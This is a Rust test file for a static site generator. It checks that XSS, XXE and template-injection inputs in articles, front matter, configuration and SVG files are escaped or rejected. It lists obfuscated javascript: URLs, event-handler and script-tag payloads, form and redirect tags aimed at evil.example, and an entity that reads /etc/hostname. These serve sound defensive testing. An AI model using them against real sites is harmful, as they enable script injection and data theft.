//! Group H: what an article says can't run as script, and can't leave its element.

use html5gum::emitters::default::DefaultEmitter;
use html5gum::{Token, Tokenizer};

use crate::scene::{Run, Scene};

const EVIL: &str = "</title></script><script>alert(1)</script>\\\" onx='y' ]]>";

/// The HTML pages that a run published, by path.
fn pages(run: &Run) -> Vec<(String, String)> {
    let is_page = |path: &String| path.ends_with(".html");
    run.scene.published().into_keys().filter(is_page).map(|path| (path.clone(), run.page(&path))).collect()
}

/// What stands in a page that its author may not put there: scripts, frames, handlers, dangerous addresses.
fn injected(html: &str) -> Vec<String> {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let mut found = Vec::new();
    let mut is_json = false;
    for token in Tokenizer::new_with_emitter(html, emitter).flatten() {
        match token {
            Token::StartTag(tag) => {
                let name = String::from_utf8_lossy(&tag.name).into_owned();
                let attribute = |wanted: &str| {
                    let found = tag.attributes.iter().find(|(name, _)| ***name == *wanted.as_bytes());
                    found.map(|(_, value)| String::from_utf8_lossy(value).into_owned())
                };
                is_json = name == "script" && attribute("type").as_deref() == Some("application/ld+json");
                let is_foreign = ["iframe", "object", "embed", "base", "form", "applet", "style", "svg", "math"];
                // The theme's own scripts are files; an author can write none under that address.
                let is_of_theme = attribute("src").is_some_and(|from| from.starts_with("/assets/"));
                if is_foreign.contains(&&*name) || (name == "script" && !is_json && !is_of_theme) {
                    found.push(format!("<{name}>"));
                }
                if name == "meta" && attribute("http-equiv").is_some() {
                    found.push("<meta http-equiv>".to_owned());
                }
                for (name, value) in &tag.attributes {
                    let name = String::from_utf8_lossy(name).into_owned();
                    let plain: String =
                        String::from_utf8_lossy(value).to_lowercase().chars().filter(|letter| *letter > ' ').collect();
                    let schemes = ["javascript:", "vbscript:", "data:text", "data:image/svg"];
                    let is_address = schemes.iter().any(|it| plain.starts_with(it));
                    if name.starts_with("on") || name == "srcdoc" || is_address {
                        found.push(format!("{name}={plain}"));
                    }
                }
            }
            Token::String(text) if is_json => {
                let text = String::from_utf8_lossy(&text).into_owned();
                if serde_json::from_str::<serde_json::Value>(&text).is_err() {
                    found.push(format!("JSON-LD that is none: {text}"));
                }
            }
            Token::EndTag(_) => is_json = false,
            _ => {}
        }
    }
    found
}

#[track_caller]
fn is_harmless(run: &Run) {
    let pages = pages(run);
    assert!(pages.len() > 3, "{run}");
    for (path, html) in pages {
        // A redirect page needs its one `<meta http-equiv="refresh">`.
        let found: Vec<_> = injected(&html).into_iter().filter(|what| what != "<meta http-equiv>").collect();
        assert_eq!(found, Vec::<String>::new(), "{path}\n{html}");
    }
}

#[test]
fn n112_markup_in_every_text_of_the_front_matter() {
    let matter = format!(
        "title = \"{EVIL}\"\nsubtitle = \"{EVIL}\"\nkicker = \"{EVIL}\"\nlead = \"{EVIL}\"\ndescription = \"{EVIL}\"\n\
         authors = [\"{EVIL}\"]\ntags = [\"{EVIL}\"]\nseries = \"{EVIL}\"\nsponsor = \"{EVIL}\"\ndate = 2026-05-01\n\
         slug = \"z\"\ncover = \"lamp.png\"\nkey = \"{EVIL}\"\n\
         [photos.\"lamp.png\"]\ncredit = \"{EVIL}\"\nalt = \"{EVIL}\"\ncaption = \"{EVIL}\"\ncreator = \"{EVIL}\"\n\
         source = \"{EVIL}\"\nlicense = \"https://a.example/?'onx='y\"\n\
         [translation]\nby = \"{EVIL}\"\n[extra]\nx = \"{EVIL}\""
    );
    let scene =
        Scene::in_languages(&["en", "sl"]).configure("[publisher]\nname = \"</script><script>alert(2)</script>\"");
    let configuration = std::fs::read_to_string(scene.path("site/polygloss.toml")).expect("there is one");
    let (publisher, rest) = configuration.split_once("\nbase_url").expect("configured so");
    let configuration = format!("base_url{rest}\n{publisher}\n").replace("\"M\"", &format!("\"{EVIL}\""));
    let of_language = format!(
        "[languages.en]\nname = \"{EVIL}\"\ntitle = \"{EVIL}\"\ndescription = \"{EVIL}\"\n\
         menu = [{{ label = \"{EVIL}\", link = \"/en/\" }}]\nfooter = [{{ label = \"{EVIL}\", link = \"/en/\" }}]\n"
    );
    let configuration = configuration.replace("[languages.en]\n", &of_language);
    let scene = scene.file("site/polygloss.toml", configuration).content("en/travel/z/lamp.png", png());
    let scene = scene.article("en/travel/z/index.md", &matter, "![](lamp.png)\n\nText.");
    let scene = scene.article("sl/travel/z/index.md", &matter, "Text.");
    let scene = scene.article("en/travel/_index.md", &format!("title = \"{EVIL}\"\ndescription = \"{EVIL}\""), "");
    let scene = scene.article(
        "en/authors/ana.md",
        &format!("name = \"{EVIL}\"\nrole = \"{EVIL}\"\n[links]\n\"{EVIL}\" = \"https://a.example\""),
        "Bio.",
    );
    let scene = scene.article("en/_index.md", &format!("title = \"{EVIL}\"\ndescription = \"{EVIL}\""), "");
    let scene = scene
        .file("site/data/a.toml", format!("a = \"{EVIL}\""))
        .file("site/strings/sl.toml", format!("tags = \"{EVIL}\""));
    let scene = scene.article("en/tags/sea.md", &format!("title = \"{EVIL}\""), "");
    let run =
        scene.article("en/travel/y.md", "title = \"Y\"\nauthors = [\"ana\"]\ntags = [\"sea\"]", "").build().exits(0);
    is_harmless(&run);
    for path in
        ["en/feed.xml", "en/atom.xml", "en/feed.json", "en/travel/feed.xml", "sitemap-en.xml", "news-sitemap-en.xml"]
    {
        assert!(!run.page(path).contains("<script>"), "{path}: {}", run.page(path));
    }
    let feed: serde_json::Value = serde_json::from_str(&run.page("en/feed.json")).expect("a feed is JSON");
    assert!(feed["items"].as_array().is_some_and(|items| !items.is_empty()));
    let run = run.nowhere_shows("<script>alert");
    run.shows("en/travel/z/index.html", "&lt;script&gt;alert(1)");
}

/// A picture of one pixel.
fn png() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0".to_vec();
    png.extend(b"\x1f\x15\xc4\x89");
    // One row of nothing, in a block that isn't compressed.
    png.extend(b"\0\0\0\x10IDAT\x78\x01\x01\x05\x00\xfa\xff\x00\x00\x00\x00\x00\x00\x05\x00\x01\x64\x78\x95\x38");
    png.extend(b"\0\0\0\0IEND\xaeB`\x82");
    png
}

#[test]
fn n113_raw_html_is_dropped_with_a_warning() {
    for html in [
        "<script>alert(1)</script>",
        "a <script src=x></script> b",
        "<img src=x onerror=alert(1)>",
        "a <img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><a/></svg>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<style>body { display: none }</style>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=\"https://evil.example\"><input name=a></form>",
        "<details open ontoggle=alert(1)>x</details>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<sc<script>ript>alert(1)</script>",
        "<img src=x\nonerror=alert(1)\n/>",
    ] {
        let run = Scene::new().article("en/z.md", "title = \"Z\"", &format!("Before.\n\n{html}\n\nAfter.")).build();
        let run = run.exits(0).tells("warning").tells("content/en/z.md:6:");
        is_harmless(&run);
        let run = run.nowhere_shows("alert(1)</script").nowhere_shows("http-equiv=refresh");
        run.shows("en/z/index.html", "Before.").shows("en/z/index.html", "After.");
    }
}

#[test]
fn n113_plain_tags_pass_without_attributes_alone() {
    let body = "H<sub>2</sub>O <mark>x</mark> <q>y</q> <!-- a comment --> <kbd onclick=alert(1)>z</kbd>";
    let run = Scene::built().article("en/z.md", "title = \"Z\"", body).build().exits(0);
    is_harmless(&run);
    run.shows("en/z/index.html", "H<sub>2</sub>O").nowhere_shows("a comment").nowhere_shows("onclick=alert");
}

const ADDRESSES: [&str; 11] = [
    "java\tscript:alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "&#1;javascript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,x",
    "data:image/svg+xml,x",
    "vbscript:msgbox(1)",
];

#[test]
fn n114_addresses_that_run_script() {
    for raw_html in ["false", "true"] {
        let mut scene = Scene::new();
        let mut articles = Vec::new();
        for (number, address) in ADDRESSES.iter().enumerate() {
            for (form, body) in [
                ("link", format!("[x](<{address}>)")),
                ("image", format!("![x](<{address}>)")),
                ("inline-image", format!("a ![x](<{address}>) b")),
                ("reference", format!("[x][y]\n\n[y]: <{address}>")),
                ("linked-image", format!("[![x](<{address}>)](<{address}>)")),
            ] {
                let path = format!("en/travel/{form}-{number}.md");
                scene = scene.article(&path, "title = \"Z\"\ndate = 2026-01-01", &body);
                articles.push(path);
            }
            // Not all of these are autolinks to Markdown; what is none is text.
            scene = scene.article(&format!("en/travel/auto-{number}.md"), "title = \"Z\"", &format!("<{address}>"));
        }
        let configuration = std::fs::read_to_string(scene.path("site/polygloss.toml")).expect("there is one");
        let configuration =
            format!("{configuration}[feeds]\nfull = true\nlimit = 100\n[security]\nraw_html = {raw_html}\n");
        let run = scene.file("site/polygloss.toml", configuration).build().exits(0).tells("dangerous-url");
        is_harmless(&run);
        let feed = run.page("en/feed.xml").replace("&quot;", "\"").to_lowercase();
        for scheme in ["javascript:", "vbscript:", "data:text", "data:image/svg+xml"] {
            for attribute in ["href", "src", "srcset"] {
                assert!(!feed.contains(&format!("{attribute}=\"{scheme}")), "{feed}\n{run}");
            }
        }
        articles.into_iter().fold(run, |run, path| run.tells(&format!("content/{path}:")));
    }
}

#[test]
fn n114_a_backslash_breaks_the_scheme() {
    let scene = Scene::built().article("en/z.md", "title = \"Z\"", "[x](<java\\script:alert(1)>)");
    // An address without a scheme, then, and one at which nothing is.
    scene.build().exits(1).tells("content/en/z.md:4:1").tells("broken-link").old_site_stands();
}

#[test]
fn n114_addresses_in_the_front_matter_and_the_configuration() {
    for (path, matter) in [
        ("en/z.md", "title = \"Z\"\ncanonical = \"javascript:alert(1)\""),
        ("en/authors/ana.md", "name = \"Ana\"\nlinks = { Web = \"javascript:alert(1)\" }"),
        ("en/z.md", "title = \"Z\"\n[photos.\"a.jpg\"]\nlicense = \"javascript:alert(1)\""),
        ("en/z.md", "title = \"Z\"\n[photos.\"a.jpg\"]\nsource = \"data:text/html,x\""),
    ] {
        let run = Scene::built().article(path, matter, "").build().exits(1).old_site_stands();
        run.tells(&format!("content/{path}:"));
    }
    let scene = Scene::built();
    let configuration = std::fs::read_to_string(scene.path("site/polygloss.toml")).expect("there is one");
    let menu = "menu = [{ label = \"x\", link = \"javascript:alert(1)\" }]\n";
    let scene = scene.file("site/polygloss.toml", configuration + menu);
    scene.build().exits(1).tells("polygloss.toml:5:").old_site_stands();
}

#[test]
fn n115_the_texts_of_a_picture() {
    let evil = "x\\\" onerror=\\\"alert(1)";
    let body = format!(
        "![{evil} <script>alert(1)</script>](lamp.png \"{evil} <b onclick=alert(1)>\")\n\nPhoto: <script>alert(1)</script>"
    );
    let scene = Scene::built().content("en/z/lamp.png", png()).article("en/z/index.md", "title = \"Z\"", &body);
    let run = scene.build().exits(0).shows("en/z/index.html", "<figure");
    is_harmless(&run);
    run.nowhere_shows("<script>alert");
}

#[test]
fn n116_places_that_markdown_hands_on() {
    for body in [
        "```\"><script>alert(1)</script>\ncode\n```",
        "```x\" onx=\"alert(1)\ncode\n```",
        "## Part {#id\" onx=}",
        "## Part {#a onx=alert(1) .b}",
        "## Part {#\"><script>alert(1)</script>}",
        "## <script>alert(1)</script> Part",
        "| a\" onx=y | <script>alert(1)</script> |\n|---|:-:|\n| <img onerror=alert(1)> | `<script>` |",
        "a[^\"onx=y]\n\n[^\"onx=y]: x",
        "a[^<script>]\n\n[^<script>]: x",
        "term\n: <script>alert(1)</script>",
        "- [x] <script>alert(1)</script>",
        "`<script>alert(1)</script>` ~~<script>alert(1)</script>~~",
        "[x](https://a.example/\"onx=\"y 'title\" onx=\"y')",
        "```{quote}\ntext = '''<script>alert(1)</script> x\" onx=\"y'''\nby = \"<script>alert(1)</script>\"\n```",
        "```{info}\ntitle = \"</p><script>alert(1)</script>\"\ntext = \"[x](javascript:alert(1))\"\n```",
        "https://www.youtube.com/watch?v=abc\"onx=\"y",
    ] {
        let scene = Scene::new().article("en/travel/z.md", "title = \"Z\"\ndate = 2026-01-01", body);
        let run = scene.build().exits(0);
        is_harmless(&run);
        run.nowhere_shows("<script>alert");
    }
    // This is nearly a box.
    let body = "``` {.x onx=alert(1)}\ncode\n```";
    let run = Scene::built().article("en/travel/z.md", "title = \"Z\"\ndate = 2026-01-01", body).build().exits(1);
    run.tells("content/en/travel/z.md:5:").tells("bad-box").old_site_stands();
}

#[test]
fn n120_the_syntax_of_templates_is_text() {
    let body = "{{ 7*7 }} and {% include \"base.html\" %} and {# not a comment #}\n\n## {{ 6*7 }}\n\n`{{ 5*7 }}`";
    let scene = Scene::built().article("en/z.md", "title = \"{{ 7*7 }}\"\nlead = \"{% raw %}\"", body);
    let run = scene.build().exits(0).shows("en/z/index.html", "{{ 7*7 }}").nowhere_shows(">49<");
    let page = run.page("en/z/index.html");
    assert!(!page.contains("49 and") && !page.contains("42</h2>"), "{page}");
    let run = run.shows("en/z/index.html", "<h1>{{ 7*7 }}</h1>").shows("en/z/index.html", "{# not a comment #}");
    run.shows("en/z/index.html", "<code>{{ 5*7 }}</code>");
}

#[test]
fn n122_drawings_with_script() {
    const OPEN: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"";
    let drawing = |svg: &str| {
        let scene = Scene::built().content("en/z/drawing.svg", svg);
        scene.article("en/z/index.md", "title = \"Z\"", "![Drawing](drawing.svg)\n\nPhoto: A").build()
    };
    drawing(&format!("{OPEN}><use href=\"#a\"/><rect id=\"a\" fill=\"url(#b)\"/></svg>"))
        .exits(0)
        .publishes("en/z/drawing.svg");
    for (inside, why) in [
        // Script.
        ("><script>alert(1)</script>", "`script`"),
        ("><script href=\"https://evil.example/x.js\"/>", "`script`"),
        ("><a href=\"javascript:alert(1)\"><text>x</text></a>", "would run script"),
        ("><a href=\"java&#9;script:alert(1)\"><text>x</text></a>", "would run script"),
        ("><rect id=\"a\"/><set href=\"#a\" attributeName=\"href\" to=\"javascript:alert(1)\"/>", "script"),
        ("><foreignObject><p xmlns=\"http://www.w3.org/1999/xhtml\">x</p></foreignObject>", "`foreignObject`"),
        // Handlers.
        (" onload=\"alert(1)\">", "`onload`"),
        ("><rect onclick=\"alert(1)\"/>", "`onclick`"),
        // What lies elsewhere.
        ("><image href=\"https://evil.example/x.png\"/>", "https://evil.example/x.png"),
        ("><image href=\"//evil.example/x.png\"/>", "//evil.example/x.png"),
        ("><image href=\"other.png\"/>", "other.png"),
        ("><image href=\"data:image/svg+xml,x\"/>", "data:image/svg+xml,x"),
        (
            " xmlns:x=\"http://www.w3.org/1999/xlink\"><use x:href=\"https://evil.example/x.svg#a\"/>",
            "https://evil.example/",
        ),
        ("><style>@import url(https://evil.example/x.css);</style>", "style"),
        ("><rect style=\"fill: url(https://evil.example/x#a)\"/>", "style"),
        ("><rect fill=\"url(https://evil.example/x#a)\"/>", "style"),
    ] {
        let run = drawing(&format!("{OPEN}{inside}</svg>")).exits(1).old_site_stands();
        run.tells("content/en/z/drawing.svg").tells("dangerous-file").tells(why);
    }
    let before = [
        "<?xml-stylesheet href=\"https://evil.example/x.css\"?>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>",
    ];
    for before in before {
        drawing(&format!("{before}{OPEN}/>")).exits(1).tells("dangerous-file").old_site_stands();
    }
    for name in ["page.html", "page.xhtml", "feed.xml", "code.js", "code.mjs", "drawing.SVG"] {
        let scene = Scene::built().content(&format!("en/z/{name}"), "x").article("en/z/index.md", "title = \"Z\"", "");
        scene.build().exits(1).tells(&format!("content/en/z/{name}")).tells("raw_html").old_site_stands();
    }
}
